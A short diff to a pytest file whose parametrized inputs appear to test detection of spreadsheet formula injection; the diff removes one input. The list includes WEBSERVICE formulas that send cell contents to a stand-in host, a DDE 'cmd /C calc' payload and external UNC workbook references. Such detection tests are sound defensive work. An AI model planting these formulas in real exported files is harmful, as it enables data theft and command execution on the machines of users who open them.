@@ -98,7 +98,6 @@ def test_a_book_that_asks_another_is_found_wherever_it_says_so():
     '=-WEBSERVICE("https://e/"&A1)', '="a"&WEBSERVICE("https://e/")', "=A1", "=1+1", "=[bok.xlsx]Blad!A1", " =A1",
     '+1+WEBSERVICE("x")', "-webservice(A1)", '- webservice ("x")', "-WEBSERVICE (A1)", "-{1;2}+WEBSERVICE(A1)",
     "@SUM(A1)", "@1+sum(A1)", "+cmd|' /C calc'!A0", "-'\\\\a.example\\b\\[x.xlsx]Blad'!A1", "-WEBSERVICE ((A1))",
-    "-x (a:a)",
 ])  # fmt: skip
 @pytest.mark.parametrize(
     "table", ["{}\n", 'a,"{}"\n', "a\t{}\n", '1;"{}";2\n', '"rad ett\nrad två";"{}"\n', "sep=^\n1^{}\n"]
